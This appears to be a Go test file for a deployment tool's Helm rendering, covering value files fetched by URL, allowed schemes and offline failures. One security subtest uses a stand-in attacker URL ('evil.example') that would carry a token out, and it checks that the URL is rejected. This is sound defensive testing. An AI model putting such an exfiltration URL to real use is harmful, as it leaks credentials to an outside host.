package helm

import (
	"strings"
	"testing"

	"github.com/capstan-cd/capstan/hub"
	"github.com/capstan-cd/capstan/hub/render"
	"github.com/capstan-cd/capstan/hub/render/rendertest"
	"github.com/capstan-cd/capstan/shared/fault"
)

// TestRemoteValues reads value files by their address. What goes over the
// network is tested in hub/source/web.
func TestRemoteValues(t *testing.T) {
	t.Parallel()
	const address = "https://example.com/$ARGOCD_APP_NAME/values.yaml?token=s3cret"
	files := with(simple("  k: {{ .Values.env | quote }}\n"), map[string]string{"c/last.yaml": "env: last\n"})
	request := func(asked *[]string, contents *string, h hub.HelmSource) render.Request {
		req := rendertest.Request(hub.Source{Path: "c", Helm: &h}, files)
		req.Fetch = func(a string, schemes []string, most int64) ([]byte, error) {
			*asked = append(*asked, a+" "+strings.Join(schemes, ","))
			if *contents == "" {
				return nil, fault.New(fault.Offline, "the server cannot be reached")
			}
			return []byte(*contents), nil
		}
		return req
	}
	t.Run("HELM-05 a value file by its address, below later ones, is an input", func(t *testing.T) {
		t.Parallel()
		var asked []string
		contents := "env: web\n"
		req := request(&asked, &contents, hub.HelmSource{ValueFiles: []string{address}})
		out, rec, err := renderChart(t, req)
		if err != nil {
			t.Fatal(err)
		}
		if text := rendertest.Text(t, out, "shop"); !strings.Contains(text, `"k":"web"`) {
			t.Errorf("rendered %s", text)
		}
		if len(asked) != 1 || asked[0] != "https://example.com/web/values.yaml?token=s3cret http,https" {
			t.Errorf("asked for %q", asked)
		}
		for now, want := range map[string]bool{"env: web\n": true, "env: other\n": false, "": false} {
			contents = now
			if fresh, err := render.Fresh(rec.Inputs(), req.Trees, req); err != nil || fresh != want {
				t.Errorf("with the contents %q fresh is %v (%v), want %v", now, fresh, err, want)
			}
		}
		contents = "env: web\n"
		out, _, err = renderChart(t, request(&asked, &contents, hub.HelmSource{ValueFiles: []string{address, "last.yaml"}}))
		if err != nil || !strings.Contains(rendertest.Text(t, out, "shop"), `"k":"last"`) {
			t.Errorf("a later file does not win: %v", err)
		}
	})
	t.Run("HELM-08 the setting says which schemes are allowed", func(t *testing.T) {
		t.Parallel()
		var asked []string
		contents := "env: web\n"
		req := request(&asked, &contents, hub.HelmSource{ValueFiles: []string{address}})
		req.Settings = map[string]string{hub.ValueSchemesKey: " HTTPS ,"}
		if _, _, err := renderChart(t, req); err != nil || len(asked) != 1 || !strings.HasSuffix(asked[0], " https") {
			t.Errorf("asked for %q: %v", asked, err)
		}
	})
	t.Run("HELM-05 an unreachable server is a transient failure, and no error of the chart", func(t *testing.T) {
		t.Parallel()
		var asked []string
		var contents string
		_, rec, err := renderChart(t, request(&asked, &contents, hub.HelmSource{ValueFiles: []string{address}}))
		if fault.KindOf(err) != fault.Offline || fault.KindOf(rec.Trouble()) != fault.Offline {
			t.Errorf("error %v, trouble %v", err, rec.Trouble())
		}
	})
	t.Run("SEC-A3 a worker cannot make up an address", func(t *testing.T) {
		t.Parallel()
		var asked []string
		contents := "env: web\n"
		job, _ := rendertest.Job(request(&asked, &contents, hub.HelmSource{ValueFiles: []string{address}}), 0)
		for _, made := range []string{"https://evil.example/?stolen=s3cret", address + "&stolen", "https://example.com/web/values.yaml?token=s3cret"} {
			_, err := job.Files.Remote(t.Context(), made)
			if fault.KindOf(err) != fault.Invalid || strings.Contains(err.Error(), "s3cret") || len(asked) != 0 {
				t.Errorf("%s: error %v, asked for %q", made, err, asked)
			}
		}
	})
}
